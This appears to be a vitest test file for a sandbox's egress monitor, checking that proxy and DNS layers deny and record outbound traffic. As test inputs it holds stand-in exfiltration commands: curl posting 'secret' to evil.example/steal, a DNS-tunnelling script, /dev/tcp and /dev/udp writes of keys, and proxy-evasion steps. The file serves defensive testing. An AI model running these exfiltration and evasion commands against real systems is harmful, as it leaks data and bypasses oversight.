import { once } from 'node:events';
import { createServer } from 'node:http';
import { expect, onTestFinished, test } from 'vitest';
import { digestOf } from '../../../../src/base/digest.ts';
import type { EgressEvent, EgressPolicy } from '../../../../src/contracts/egress.ts';
import { notCarried } from '../../../../src/probes/network/not-carried.ts';
import type { Outside } from '../../../../src/sandbox/network/egress/reach.ts';
import { openSession } from '../../../../src/sandbox/session/session.ts';
import { EMPTY_SPEC, stateFolder } from '../../docker-fixture.ts';
import { request } from '../../engine/conformance.ts';
import { egressWatch } from './watch-egress.ts';

const state = stateFolder();

const watch = egressWatch(state);

const DENY: EgressPolicy = { kind: 'deny' };
const ALLOWED: EgressPolicy = { kind: 'allow', hosts: ['allowed.example'], unopened: [] };

/** A server of this machine, in the place of every public host. */
async function publicHost(): Promise<{ outside: Outside; seen: string[] }> {
  const seen: string[] = [];
  const server = createServer(async (incoming, outgoing) => {
    const body = Buffer.concat(await incoming.toArray());
    seen.push(`${incoming.method} ${incoming.headers.host} ${incoming.url} ${body}`);
    outgoing.writeHead(207, { 'x-from': 'outside' }).end('from outside');
  });
  onTestFinished(() => void server.close());
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return { seen, outside: { placeOf: async () => ({ address: '127.0.0.1', port }), authorities: () => [] } };
}

const kinds = (events: readonly EgressEvent[]) => events.map(({ kind }) => kind);

test('a request through the proxy is refused and recorded in full', async () => {
  const { said, events } = await watch(
    DENY,
    'curl --silent --write-out "%{http_code}" "http://Evil.example:8080/steal?x=1" --header "X-Key: k" --data secret',
  );
  expect(said).toBe('evil.example cannot be reached from here.\n403');
  expect(events).toEqual([
    {
      kind: 'http',
      atMs: expect.any(Number),
      host: 'evil.example',
      port: 8080,
      decision: 'denied',
      scheme: 'http',
      method: 'POST',
      path: '/steal?x=1',
      headers: expect.arrayContaining([{ name: 'X-Key', value: 'k' }]),
      body: { text: 'secret', size: 6, digest: digestOf('secret'), isWhole: true },
    },
  ]);
});

test('a tunnel is refused and recorded', async () => {
  const { said, events } = await watch(DENY, 'curl --silent --show-error https://evil.example/steal');
  expect(said).toMatch(/403/);
  expect(events).toMatchObject([{ kind: 'connect', host: 'evil.example', port: 443, decision: 'denied' }]);
});

test('a program that ignores the proxy is redirected by DNS and still recorded', async () => {
  const { said, events } = await watch(
    DENY,
    `export -n http_proxy https_proxy; unset HTTP_PROXY HTTPS_PROXY ALL_PROXY all_proxy http_proxy https_proxy
    curl --silent http://plain.example/path --data body; curl --silent --show-error https://secure.example/`,
  );
  expect(said).toMatch(/plain.example cannot be reached from here.*alert access denied/s);
  expect(events.filter(({ kind }) => kind !== 'dns')).toMatchObject([
    { kind: 'http', host: 'plain.example', port: 80, method: 'POST', path: '/path', body: { text: 'body' } },
    { kind: 'tls', host: 'secure.example', port: 443, decision: 'denied' },
  ]);
  expect(events.flatMap((event) => (event.kind === 'dns' ? event.host : []))).toContain('plain.example');
});

test('any other connection to a common port is recorded with the name that led there', async () => {
  const script = `
import socket
s = socket.create_connection(('mail.example', 25)); s.sendall(b'\\x00 raw words'); s.shutdown(1); print(s.recv(9))
t = socket.create_connection(('quiet.example', 22)); t.close()`;
  const { said, events } = await watch(DENY, `python3 - <<'END'${script}\nEND`);
  expect(said).toBe("b''");
  expect(events.filter(({ kind }) => kind !== 'dns')).toMatchObject([
    { kind: 'tcp', host: 'mail.example', port: 25, body: { text: '\0 raw words', isWhole: true } },
    { kind: 'tcp', host: 'quiet.example', port: 22, body: { size: 0 } },
  ]);
});

test('data in the names of DNS queries is recorded, whatever the query type', async () => {
  const script = `
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
for n in range(50):
    for kind in (1, 16, 28):
        name = b''.join(bytes([len(p)]) + p for p in (b'part%d' % n, b'tunnel', b'example')) + b'\\0'
        s.sendto(struct.pack('>6H', n, 256, 1, 0, 0, 0) + name + struct.pack('>2H', kind, 1), ('127.0.0.1', 53))
        s.recv(512)
s.sendto(b'not a question', ('127.0.0.1', 53))`;
  const { events } = await watch(DENY, `python3 - <<'END'${script}\nEND`);
  const questions = events.flatMap((event) => (event.kind === 'dns' ? `${event.host} ${event.type}` : []));
  expect(questions).toHaveLength(151);
  for (const type of ['A', 'TXT', 'AAAA']) expect(questions).toContain(`part49.tunnel.example ${type}`);
  expect(questions).toContain('not a question unreadable');
});

test('a fixture answers only the requests that it matches', async () => {
  const fixtures = [
    { method: 'GET', url: '^http://api\\.example/v1/', status: 202, headers: { 'x-a': 'b' }, body: '{}' },
  ];
  const { said, events } = await watch(
    { kind: 'fixtures', fixtures },
    `curl --silent --include http://api.example/v1/items; echo; curl --silent http://api.example/v1/items --data x
    curl --silent --proxytunnel http://api.example/v1/items`,
  );
  expect(said).toMatch(/^HTTP\/1.1 202.*x-a: b.*\{\}\napi.example cannot be reached from here.\n\{\}$/s);
  const decisions = events.flatMap((event) => (event.kind === 'http' ? event.decision : []));
  expect(decisions).toEqual(['fixture', 'denied', 'fixture']);
});

test('an allowed host is actually reached by its own name, and no other is', async () => {
  const { outside, seen } = await publicHost();
  const { said, events } = await watch(
    ALLOWED,
    `curl --silent --include http://allowed.example/a?b --data up --header 'Host: other.example'; echo
    curl --silent http://other.example/ --header 'Host: allowed.example'
    curl --silent --proxytunnel --write-out '%{http_code}' http://allowed.example/tunnelled`,
    outside,
  );
  expect(said).toMatch(
    /^HTTP\/1.1 207.*x-from: outside.*from outside\nother.example cannot.*from outside207$/s,
  );
  expect(seen).toEqual(['POST allowed.example /a?b up', 'GET allowed.example /tunnelled ']);
  expect(events).toMatchObject([
    { kind: 'http', host: 'allowed.example', decision: 'forwarded', body: { text: 'up' } },
    { kind: 'http', host: 'other.example', decision: 'denied' },
    { kind: 'connect', host: 'allowed.example', port: 80 },
    { kind: 'http', host: 'allowed.example', decision: 'forwarded', path: '/tunnelled' },
  ]);
});

test('an allowed name that resolves to this machine or its network is not followed', async () => {
  const server = createServer((_incoming, outgoing) => outgoing.end('reached'));
  onTestFinished(() => void server.close());
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const hosts = [`localhost:${port}`, `127.0.0.1:${port}`];
  const { said } = await watch(
    { kind: 'allow', hosts, unopened: [] },
    `for host in ${hosts.join(' ')}; do curl --silent --noproxy '' --write-out ' %{http_code} ' http://$host/; done`,
  );
  expect(said).not.toContain('reached\n');
  expect(said.match(/502/g)).toHaveLength(2);
});

test('a long body is kept in part and measured in full', async () => {
  const { events } = await watch(
    DENY,
    'head -c 3M /dev/zero | curl --silent http://evil.example/ --upload-file -',
  );
  const whole = Buffer.alloc(3 * 1024 ** 2);
  expect(kinds(events)).toEqual(['http']);
  expect(events).toMatchObject([
    { body: { size: whole.length, digest: digestOf(whole), isWhole: false, text: '\0'.repeat(16 * 1024) } },
  ]);
});

test('a sandbox without a network records nothing and answers nothing', async () => {
  await using engine = await openSession(state);
  await using sandbox = await engine.create(EMPTY_SPEC);
  expect((await sandbox.run(request('curl --silent http://evil.example/'))).exitCode).toBe(6);
  expect(await sandbox.egress()).toEqual([]);
});

/** What the processes' own record tells of a command beside what came to the harness. */
async function watchProcesses(command: string) {
  await using session = await openSession(state);
  const audit = { paths: [], objects: [], oracles: [] };
  const network = { gateway: null, policy: DENY };
  await using sandbox = await session.create({ ...EMPTY_SPEC, network, audit });
  const { stdout, stderr } = await sandbox.run(request(command));
  await sandbox.stopProcesses();
  const processes = await sandbox.processes();
  return { said: `${stdout}${stderr}`.trim(), processes, egress: await sandbox.egress() };
}

test('a name that was looked up is recorded with its address, even if no port accepts the data', async () => {
  const { processes, egress } = await watchProcesses('printf key >/dev/udp/vendor.example/514');
  expect(egress).toMatchObject([
    { kind: 'dns', host: 'vendor.example', address: '127.64.0.1' },
    { kind: 'dns', host: 'vendor.example', address: '127.64.0.1' },
  ]);
  expect(notCarried({ egress, processes })).toEqual([
    { host: 'vendor.example', place: 'vendor.example:514' },
  ]);
  expect(processes).toMatchObject({ closedPorts: 1 });
});

test('an ordinary query for the sandbox itself does not count as use of the network', async () => {
  const { said, egress, processes } = await watchProcesses(`
    python3 -m http.server 8000 >/dev/null 2>&1 &
    curl --silent --output /dev/null --retry 5 --retry-delay 1 --retry-connrefused http://localhost:8000/ --next --silent --output /dev/null http://sandbox:8000/
    node -e 'require("dns").lookup("sandbox", { family: 4 }, (_, address) => console.log(address))'
    python3 -c 'import socket; print(socket.gethostbyname("sandbox"), socket.getfqdn())'`);
  expect(said).toBe('127.0.0.1\n127.0.0.1 localhost');
  expect(egress).toEqual([]);
  expect(processes).toMatchObject({ complete: true, undelivered: 0, closedPorts: 0 });
});

test('a connection to the sandbox itself is no use of the network, whatever its address and port', async () => {
  const { said, egress, processes } = await watchProcesses(`
    curl --silent http://localhost/health http://127.0.0.2/ http://sandbox/; curl --silent --insecure https://localhost/
    python3 -c 'import smtplib; smtplib.SMTP("localhost", timeout=5)' 2>/dev/null || echo 'no mail'
    node -e 'fetch("http://localhost/").catch(() => console.log("no page"))'
    python3 -m http.server 8000 >/dev/null 2>&1 &
    curl --silent --output /dev/null --write-out '%{http_code}' --retry 5 --retry-delay 1 --retry-connrefused http://127.0.0.2:8000/`);
  expect(said).toBe('no mail\nno page\n200');
  expect(egress).toEqual([]);
  expect(notCarried({ egress, processes })).toEqual([]);
  expect(processes).toMatchObject({ complete: true, undelivered: 0, closedPorts: 0 });
});

test.each([
  ['the name server by TCP', '127.0.0.1 53', { kind: 'tcp', port: 53 }],
  ['the name server at another of its addresses', '127.0.0.53 53', { kind: 'tcp', port: 53 }],
  ['an address of a name that was never looked up', '127.64.9.9 80', { kind: 'tcp', port: 80 }],
])('data that is sent to %s is recorded', async (_what, place, expected) => {
  const { events } = await watch(DENY, `printf ': key' >/dev/tcp/${place.replace(' ', '/')}`);
  expect(events).toMatchObject([{ ...expected, host: null, body: { text: ': key' } }]);
});

test('a request to the sandbox itself through the proxy is recorded', async () => {
  const { events } = await watch(
    DENY,
    "curl --silent --noproxy '' http://127.0.0.1/key http://127.0.0.2:8000/",
  );
  expect(events).toMatchObject([
    { kind: 'http', host: '127.0.0.1', port: 80, path: '/key' },
    { kind: 'http', host: '127.0.0.2', port: 8000 },
  ]);
});

test.each([
  ['a subdomain', 'getent hosts key.localhost || getent hosts key.sandbox'],
  ['another spelling', 'getent hosts SandBox'],
  [
    'trailing data',
    `python3 -c 'import socket; s = socket.socket(2, 2); s.connect(("127.0.0.1", 53))
s.send(b"\\0\\7\\1\\0\\0\\1" + bytes(6) + b"\\7sandbox\\0\\0\\1\\0\\1key"); s.recv(99)'`,
  ],
])(
  'a query for the sandbox itself that can carry data counts as use of the network: %s',
  async (_what, ask) => {
    expect((await watch(DENY, ask)).events).not.toEqual([]);
  },
);

test('network use of ordinary programs is carried, and nothing is left undelivered', async () => {
  const { said, processes, egress } = await watchProcesses(`
    curl --silent --output /dev/null http://vendor.example/ --next --noproxy '*' https://vendor.example/
    getent hosts vendor.example; getent ahosts localhost >/dev/null
    git clone --quiet https://git.example/a/b
    python3 -c 'import urllib.request as u; u.urlopen("http://vendor.example/")'
    node -e 'fetch("http://localhost:3000/").catch(() => fetch("https://vendor.example/")).catch(() => 0)'
    node -e 'require("dns").resolve4("vendor.example", () => 0); setTimeout(() => process.exit(), 2)'
    node -e 'const s = require("http").createServer((_, r) => r.end("served")).listen(3000, "127.0.0.1",
      () => fetch("http://localhost:3000/").then((r) => r.text()).then((t) => { console.log(t); s.close(); }))'`);
  expect(said).toContain('served');
  expect(notCarried({ egress, processes })).toEqual([]);
  expect(processes).toMatchObject({ undelivered: 0, closedPorts: 0, complete: true });
});

test('clients that reuse a connection cause one event for each request and no other', async () => {
  const fixtures = [{ url: '.*', status: 200, headers: {}, body: 'answer' }];
  const { said, events } = await watch(
    { kind: 'fixtures', fixtures },
    `curl --silent http://docs.example/1 http://docs.example/2
    head -c 3M /dev/urandom >large
    for name in localhost docs.example; do curl --silent --noproxy "$name" http://docs.example/3 --data-binary @large --next --silent --noproxy "$name" http://docs.example/4 --upload-file - <large; done
    curl --silent --http2 --noproxy '*' http://docs.example/5 http://docs.example/6
    python3 -c '
import http.client, os, urllib.parse
for address in ("docs.example", urllib.parse.urlsplit(os.environ["http_proxy"]).netloc):
  c = http.client.HTTPConnection(address)
  for i in range(3): c.request("POST", "http://docs.example/7", "a=b"); c.getresponse().read()
  c.request("POST", "http://docs.example/8", iter([b"a", b"b"]), encode_chunked=True, headers={"Transfer-Encoding": "chunked"}); c.getresponse().read()'
    node -e '
const agent = new (require("http").Agent)({ keepAlive: true, maxSockets: 1 });
for (let i = 0; i < 5; i++) require("http").request("http://docs.example/9", { agent, method: "POST" }, (r) => r.resume()).end("x".repeat(i));
setTimeout(() => process.exit(), 1500)'
    node -e 'const ask = () => fetch("http://docs.example/10", { method: "POST", body: "a" }).then((r) => r.text()); ask().then(ask).then(ask)'
    exec 3<>/dev/tcp/docs.example/80; printf 'GET /11 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\nGET /11 HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 >/dev/null
    git clone http://docs.example/a/b`,
  );
  expect(said).toContain('answer');
  const others = events.filter(({ kind }) => kind !== 'dns' && kind !== 'http');
  expect(others).toEqual([]);
  const paths = events.flatMap((event) => (event.kind === 'http' ? event.path.split('?') : []));
  const counts = Map.groupBy(paths, (path) => path);
  expect([...counts].map(([path, all]) => `${all.length} ${path}`)).toEqual(
    expect.arrayContaining([
      '1 /1',
      '1 /2',
      '2 /3',
      '2 /4',
      '1 /5',
      '1 /6',
      '6 /7',
      '2 /8',
      '5 /9',
      '3 /10',
      '2 /11',
    ]),
  );
  const large = events.flatMap((event) =>
    'body' in event && event.body.size === 3 * 1024 ** 2 ? [event.body.digest] : [],
  );
  expect([large.length, new Set(large).size]).toEqual([4, 1]);
});

test('each of thousands of requests to a host leaves an event and hides none to another', async () => {
  const ask = `
import http.client, urllib.request, urllib.error
for i in range(600):
    try: urllib.request.urlopen(f"http://docs.example/{i}")
    except urllib.error.HTTPError as error: error.read()
kept = http.client.HTTPConnection("docs.example")
for i in range(600):
    kept.request("GET", f"/kept/{i}"); kept.getresponse().read()`;
  const { events } = await watch(DENY, `python3 - <<'END'${ask}\nEND\ncurl --silent http://evil.example/`);
  const hosts = events.flatMap((event) => (event.kind === 'http' ? (event.host ?? []) : []));
  expect(hosts).toEqual([...Array.from({ length: 1200 }, () => 'docs.example'), 'evil.example']);
  expect(new Set(kinds(events))).toEqual(new Set(['dns', 'http']));
});

test('a burst of questions and requests is carried whole', async () => {
  const { said, egress, processes } = await watchProcesses(`node -e '
const all = (ask) => Promise.all(Array.from({ length: 500 }, (_, index) => ask(index)));
const { resolve4 } = require("dns/promises");
all((index) => resolve4("a" + index + ".example"))
  .then(() => all(() => resolve4("localhost")))
  .then(() => all((index) => fetch("http://docs.example/" + index).then((answer) => answer.text())))
  .then(({ length }) => console.log(length, "answers"))'`);
  expect(said).toBe('500 answers');
  const requests = egress.filter(({ kind }) => kind === 'http');
  const questions = egress.filter((event) => event.kind === 'dns' && event.host !== 'docs.example');
  expect([requests.length, questions.length]).toEqual([500, 500]);
  expect(new Set(kinds(egress))).toEqual(new Set(['dns', 'http']));
  expect(processes).toMatchObject({ undelivered: 0, closedPorts: 0, complete: true });
});

test('connections that still wait or found no room are counted by their destination', async () => {
  // The name is looked up once, because thousands of questions would take most of the time.
  const hold = (host: string, port: number, count: number) => `
import socket, time
held = []
place = (socket.gethostbyname('${host}'), ${port})
for _ in range(${count}):
    try: held.append(socket.create_connection(place, timeout=5))
    except OSError: pass
open('/tmp/held-${host}', 'w').close()
time.sleep(100)`;
  const inBackground = (script: string) => `(python3 - <<'END' &${script}\nEND\n) >/dev/null 2>&1`;
  const { events } = await watch(
    DENY,
    `${inBackground(hold('docs.example', 80, 3000))}
    until test -e /tmp/held-docs.example; do sleep 0.1; done
    ${inBackground(hold('other.example', 443, 1500))}
    until test -e /tmp/held-other.example; do sleep 0.1; done
    curl --silent --noproxy '*' http://vendor.example/ || true`,
  );
  const carried = events.filter((event) => event.kind === 'tcp');
  expect(new Set(carried.map(({ host }) => host))).toEqual(new Set(['docs.example']));
  const counted = events.flatMap((event) => (event.kind === 'counted' ? [event] : []));
  expect(counted.toSorted((a, b) => b.count - a.count)).toMatchObject([
    { of: 'unread', host: 'docs.example', port: 80, count: 3000 - carried.length },
    { of: 'unread', host: 'other.example', port: 443, count: 1500 },
    { of: 'unread', host: 'vendor.example', port: 80, count: 1 },
  ]);
  expect(events.filter(({ kind }) => kind === 'cut')).toEqual([]);
});

test('an answer to a program that is gone is not sent and does not count as undelivered', async () => {
  const question =
    '\\x00\\x07\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06vendor\\x07example\\x00\\x00\\x01\\x00\\x01';
  const { processes, egress } = await watchProcesses(
    `printf '${question}' >/dev/udp/127.0.0.1/53; sleep 0.5`,
  );
  expect(egress).toMatchObject([{ kind: 'dns', host: 'vendor.example' }]);
  expect(processes).toMatchObject({ undelivered: 0 });
});
